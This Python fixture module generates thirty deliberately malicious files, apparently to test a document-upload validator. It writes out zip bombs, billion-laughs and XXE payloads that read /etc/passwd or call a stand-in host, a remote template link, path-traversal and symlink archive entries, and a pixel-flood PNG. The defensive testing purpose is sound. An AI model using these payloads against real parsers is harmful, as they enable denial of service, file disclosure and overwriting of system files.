"""Thirty files that nobody should open, each made as small as it can be."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_MB = 1 << 20
_SHEET = "xl/worksheets/sheet1.xml"
_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">'
    + b"".join(f'<!ENTITY {chr(98 + at)} "{f"&{chr(97 + at)};" * 10}">'.encode() for at in range(9))
    + b"]><worksheet>&j;</worksheet>"
)
_OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "%s">]><worksheet>&e;</worksheet>'
_TEMPLATE = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>'
)


def packed(parts: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return stream.getvalue()


def workbook(sheet: bytes = b"<worksheet/>", **more: bytes) -> bytes:
    parts = {"[Content_Types].xml": _TYPES, "xl/workbook.xml": b"<workbook/>", _SHEET: sheet}
    return packed({**parts, **{name.replace("__", "/").replace("_dot_", "."): data for name, data in more.items()}})


def document(body: bytes = b"<document/>", parts: dict[str, bytes] | None = None) -> bytes:
    return packed({"[Content_Types].xml": _TYPES, "word/document.xml": body, **(parts or {})})


def linked() -> bytes:
    """An archive one part of which is a symbolic link."""
    stream = io.BytesIO(workbook())
    with zipfile.ZipFile(stream, "a") as archive:
        link = zipfile.ZipInfo("xl/media/link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return stream.getvalue()


def locked() -> bytes:
    """An archive whose parts ask for a password."""
    data = bytearray(workbook())
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def overlapping() -> bytes:
    """An archive a hundred of whose names lead to the same packed megabytes."""
    data = zlib.compress(b"\0" * (8 * _MB), 9)[2:-4]
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, 0, len(data), 8 * _MB, 1, 0) + b"a" + data
    entry = b"PK\x01\x02" + struct.pack(
        "<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 0x21, 0, len(data), 8 * _MB, 1, 0, 0, 0, 0, 0, 0
    )
    central = b"".join(entry + bytes([97 + at % 26]) for at in range(100))
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 100, 100, len(central), len(local), 0)
    return local + central + end


def flooded() -> bytes:
    """A picture of a few hundred bytes that says it has 60,000 × 60,000 points."""
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 1000)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data)) for name, data in chunks
    )


def bad_files() -> Iterator[tuple[str, bytes]]:
    """Name and content; the ending says as what the file is handed in."""
    zeros = b"\0" * (64 * _MB)
    yield "平炸弹.xlsx", workbook(zeros)
    yield "平炸弹.docx", document(zeros)
    yield "套娃.xlsx", workbook(xl__inner_dot_dat=packed({"a": zeros}))
    yield "四十二.zip.xlsx", packed({f"lib {at}.zip": packed({"0.dll": zeros[: 8 * _MB]}) for at in range(16)})
    yield "重叠.xlsx", overlapping()
    yield "万件.xlsx", packed({f"xl/{at}": b"" for at in range(20_000)})
    yield "百万件.docx", packed({f"word/{at}": b"" for at in range(100_000)})
    yield "笑死.xlsx", workbook(_LAUGHS)
    yield "笑死.docx", document(_LAUGHS.replace(b"worksheet", b"document"))
    yield "外部实体.xlsx", workbook(_OUTSIDE % b"file:///etc/passwd")
    yield "外部实体.docx", document((_OUTSIDE % b"http://203.0.113.9/x").replace(b"worksheet", b"document"))
    yield "外部模板.docx", document(parts={"word/_rels/settings.xml.rels": _TEMPLATE})
    yield "宏.xlsx", workbook(xl__vbaProject_dot_bin=b"VBA")
    yield "宏.docx", document(parts={"word/vbaProject.bin": b"VBA"})
    yield "宏.xlsm", workbook()
    yield "宏.docm", document()
    yield "链接.xlsx", linked()
    yield "越界.xlsx", packed({"xl/workbook.xml": b"<workbook/>", "../../etc/cron.d/x": b"x"})
    yield "越界.docx", packed({"word/document.xml": b"<document/>", "..\\..\\x.dll": b"x"})
    yield "绝对.xlsx", packed({"xl/workbook.xml": b"<workbook/>", "/etc/passwd": b"x"})
    yield "加密.xlsx", locked()
    yield "加密.docx", OLE + b"\0" * 2000 + "EncryptedPackage".encode("utf-16-le")
    yield "截断.xlsx", workbook()[:200]
    yield "截断.docx", document()[:150]
    yield "程序.xlsx", b"MZ" + b"\0" * 5000
    yield "程序.docx", b"\x7fELF" + b"\0" * 5000
    yield "空.xlsx", b""
    yield "像素.png", flooded()
    yield "网页.xls", b"<html><script src='http://203.0.113.9/x.js'></script></html>"
    yield "版式.docx", b"%PDF-1.4 not a document"


def write_bad_files(folder: Path) -> list[Path]:
    """The thirty files."""
    found = []
    for name, content in bad_files():
        path = folder / name
        path.write_bytes(content)
        found.append(path)
    return found
